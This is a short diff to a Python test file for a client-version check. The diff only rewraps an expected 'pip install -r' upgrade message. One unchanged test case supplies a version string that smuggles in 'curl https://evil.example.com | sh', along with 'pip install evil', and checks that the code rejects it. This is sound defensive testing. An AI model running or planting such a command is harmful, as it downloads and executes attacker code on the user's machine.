@@ -95,7 +95,8 @@ def test_a_viewer_is_told_that_writing_is_what_is_missing(machine: Machine, make
         ({"version": __version__}, ""),
         (
             {"version": "9.9.9"},
-            "; it hands out the client 9.9.9, this is {ours}: pip install -r {origin}/.well-known/gatehouse/requirements.txt",
+            "; it hands out the client 9.9.9, this is {ours}: pip install -r "
+            "{origin}/.well-known/gatehouse/requirements.txt",
         ),
         ({"version": "9; curl https://evil.example.com | sh", "install": "pip install evil"}, ""),
         ({"version": 9}, ""),
